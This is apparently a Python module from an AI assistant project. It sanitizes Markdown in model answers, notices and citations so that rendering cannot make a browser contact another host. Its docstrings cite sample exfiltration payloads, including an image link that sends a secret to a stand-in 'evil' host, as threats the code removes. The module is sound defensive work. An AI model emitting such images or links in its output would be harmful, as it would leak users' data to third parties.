"""Markdown that cannot make a reader's browser contact another host (answers, notices, citations).

Answers quote retrieved documents and a model's words; every front end (the chat, the HTTP API, the
notebook) shows them as Markdown, so each cleans them here the same way.
"""

from __future__ import annotations

import re

from tradeassist.core.table_format import LINK_WORD


def strip_remote_images(markdown: str) -> str:
    """Markdown that cannot make the browser contact another host: no image, media or link goes out.

    Answers quote retrieved documents and a model's words, which may carry tracking pixels or
    data-exfiltration images and links (``![x](https://evil/?q=secret)``, ``[y][r]`` with
    ``[r]: http://...``, ``<video poster=...>``). Images and media become a note in every syntax,
    links keep their text and lose their target, raw HTML and bare URLs show as text. Code
    (fenced blocks, one-line code spans) is kept as written: nothing in it renders.

    The result is safe wherever a caller puts it (after "Error: ", in a list item, between other
    cleaned texts): a code block it holds starts on a line of its own and is closed at its end.
    """
    # The readable forms first (code kept as written); then the code of that text, which the result
    # holds, is found again and everything else made inert.
    readable = "".join(_readable(piece) if kind == "prose" else piece for kind, piece in _code_and_prose(markdown))
    pieces = _code_and_prose(readable)
    out = []
    for index, (kind, piece) in enumerate(pieces):
        if kind == "prose":
            touching = (index > 0, index + 1 < len(pieces))  # code right before / after this prose
            out.append(_inert_prose(piece, touching))
        else:
            out.append(piece)
    # A fence opens a block only at the start of a line, which a caller's prefix would take from it.
    return "\n" + "".join(out) if pieces and pieces[0][0] == "fence" else "".join(out)


def inert_answer_json(data: dict) -> dict:
    """The JSON form of an answer as the HTTP API sends it: its Markdown and its chart's labels inert.

    A client renders ``text``, notices, snippets and the explanation as Markdown and the chart with
    Plotly, as the chat does; what the chat would not show (a remote image, a link to another host,
    a tag in a label) is not sent either. Rows and columns are data and stay exactly as they are.
    """
    from tradeassist.core.chart_figures import inert_labels

    data["text"] = strip_remote_images(data.get("text") or "")
    for notice in data.get("notices") or []:
        notice["message"] = strip_remote_images(notice["message"])
    for citation in data.get("citations") or []:
        citation["snippet"] = strip_remote_images(citation["snippet"])
    if data.get("explanation"):
        data["explanation"]["summary"] = strip_remote_images(data["explanation"].get("summary") or "")
    if data.get("error"):
        data["error"]["message"] = strip_remote_images(data["error"]["message"])
    if data.get("chart") is not None:
        data["chart"] = inert_labels(data["chart"])
    return data


#: Tags that fetch or embed something (``src``, ``poster``, ``srcset``, ``data``): shown as a note.
_HTML_MEDIA = re.compile(r"(?<!\\)<\s*(img|image|video|audio|source|picture|track|iframe|frame|object|embed|svg"
                         r"|input)\b[^>]*>?", re.IGNORECASE)
_HTML_MEDIA_END = re.compile(r"(?<!\\)<\s*/\s*(?:video|audio|picture|iframe|object|svg|frame)\s*>", re.IGNORECASE)
#: ``<a href=...>text</a>``: the text stays, the target goes.
_HTML_ANCHOR = re.compile(r"(?<!\\)<\s*a\b[^>]*>(.*?)<\s*/\s*a\s*>", re.IGNORECASE | re.DOTALL)
#: A link destination (``<...>`` or balanced parentheses one deep) with an optional title.
_TITLE = r"""(?:\s+(?:"[^"]*"|'[^']*'|\([^()]*\)))?"""
_TARGET = rf"\(\s*(?:<[^<>\n]*>|[^\s()<>]*(?:\([^\s()]*\)[^\s()<>]*)*){_TITLE}\s*\)"
#: The text between brackets that are not escaped (escape pairs inside are taken whole).
_LABEL = r"(?:\\.|[^\[\]\\])*"
_MD_IMAGE = re.compile(rf"(?<!\\)!\[({_LABEL})\](?:{_TARGET}|\[{_LABEL}\])")
_MD_LINK = re.compile(rf"(?<![\\!])\[({_LABEL})\](?:{_TARGET}|\[{_LABEL}\])")
#: A reference definition (``[r]: http://... "title"``) on its own line: dropped, as Markdown would hide it.
_REF_DEF = re.compile(rf"^ {{0,3}}\[{_LABEL}\]:[ \t]*\S+{_TITLE}[ \t]*(?:\r?\n|\r|$)", re.MULTILINE)


def _readable(text: str) -> str:
    """Markdown with images and media as notes and links as their words (common forms; _inert_prose does the rest)."""
    text = _HTML_MEDIA.sub(lambda m: "[image removed]" if m.group(1).lower() in ("img", "image") else "[media removed]",
                           text)
    text = _HTML_MEDIA_END.sub("", text)
    text = _HTML_ANCHOR.sub(lambda m: m.group(1), text)
    text = _MD_IMAGE.sub(lambda m: f"[image removed: {m.group(1) or 'untitled'}]", text)
    text = _MD_LINK.sub(lambda m: m.group(1), text)
    return _REF_DEF.sub("", text)


#: What could still make a link, an image or HTML in prose, found left to right. An escape pair is
#: kept as written (escaping inside it would free the character it escapes).
_LIVE_MARKUP = re.compile(
    r"(?P<escape>\\[!-/:-@\[-`{-~])"
    rf"|(?P<url>\\*(?:{LINK_WORD.pattern}))"  # with a backslash before it, which would escape the backtick
    r"|`"                      # a backtick that opens no code span here must not pair with a later one
    r"|<"                      # a tag, a comment or an autolink (<x@host> starts with any character)
    r"|~"                      # strikethrough, which some renderers (marked) let cut through a code span
    r"|:(?=[A-Za-z])"          # a text directive (the chat's remark-directive): "color:red" would lose ":red"
    r"|\](?=[(\[:])"           # the bracket that closes a link, a reference or a definition
    r"|(?<=!)\[",              # an image
    re.IGNORECASE)


def _inert_prose(text: str, touching: tuple[bool, bool]) -> str:
    """Prose in which no link, image or HTML can form: their marks escaped, bare URLs as code spans.

    ``touching`` says code is right before / after: a code span added there is set apart by a space,
    so its backticks never join the neighbour's into one run.
    """
    def inert(match: re.Match) -> str:
        if match.group("escape"):
            return match.group()
        if match.group("url"):
            before = " " if touching[0] and match.start() == 0 else ""
            after = " " if touching[1] and match.end() == len(text) else ""
            return f"{before}`{match.group()}`{after}"
        return "\\" + match.group()

    return _LIVE_MARKUP.sub(inert, text)


#: A fence that opens a code block at the left margin (not nested in a list or quote, where a
#: later line at the margin would end the block early); a backtick fence's info has no backtick.
_FENCE = re.compile(r"(`{3,}|~{3,})([^\r\n]*)")
_LINE = re.compile(r"[^\r\n]*(?:\r\n|\r|\n|$)")
_TICK_OR_ESCAPE = re.compile(r"\\[\s\S]|`+")


def _code_and_prose(markdown: str) -> list[tuple[str, str]]:
    """The text as (kind, piece): "fence" (closed, if the text left it open), one-line "span", and "prose"."""
    lines = [m.group() for m in _LINE.finditer(markdown) if m.group()]
    pieces: list[tuple[str, str]] = []
    prose: list[str] = []
    i = 0
    while i < len(lines):
        fence = _FENCE.match(lines[i])
        if not fence or (fence.group(1)[0] == "`" and "`" in fence.group(2)):
            prose.append(lines[i])
            i += 1
            continue
        mark = fence.group(1)
        close = re.compile(rf" {{0,3}}{re.escape(mark[0])}{{{len(mark)},}}[ \t]*(?:\r\n|\r|\n)?$")
        end = next((j for j in range(i + 1, len(lines)) if close.match(lines[j])), None)
        block = "".join(lines[i:] if end is None else lines[i:end + 1])
        if end is None:  # open to the end: closed here, so that text after this one is not code
            block += ("" if block.endswith(("\n", "\r")) else "\n") + mark + "\n"
        pieces += _code_spans("".join(prose))
        pieces.append(("fence", block))
        prose, i = [], len(lines) if end is None else end + 1
    pieces += _code_spans("".join(prose))
    return [(kind, piece) for kind, piece in pieces if piece]


def _code_spans(prose: str) -> list[tuple[str, str]]:
    """Prose cut at its code spans, kept only when they close on the same line with no "|" or "]:" inside.

    Markdown finds tables and reference definitions before code spans: a table splits a span at its
    pipes, and ``[x `]: http://host "`"`` defines a link. A span over lines may not be one block.
    """
    pieces: list[tuple[str, str]] = []
    start = position = 0
    while (found := _TICK_OR_ESCAPE.search(prose, position)) is not None:
        position = found.end()
        if found.group()[0] == "\\":
            continue
        run = found.group()
        line_end = min((i for i in (prose.find("\n", position), prose.find("\r", position)) if i >= 0),
                       default=len(prose))
        closing = re.compile(rf"(?<!`){run}(?!`)").search(prose, position, line_end)
        inside = prose[position:closing.start()] if closing is not None else ""
        if closing is None or "|" in inside or "]:" in inside:
            continue
        pieces += [("prose", prose[start:found.start()]), ("span", prose[found.start():closing.end()])]
        start = position = closing.end()
    pieces.append(("prose", prose[start:]))
    return pieces


#: Characters that give markdown meaning; a file name is shown with each of them escaped.
_MARKDOWN_CHARS = re.compile(r"([\\`*_{}\[\]()#+\-.!<>|~])")


def plain_name(name: str) -> str:
    """A file name as literal markdown text: ``![x](http://host/p)`` shows as typed, never as an image."""
    return _MARKDOWN_CHARS.sub(r"\\\1", name.replace("\n", " ").replace("\r", " "))
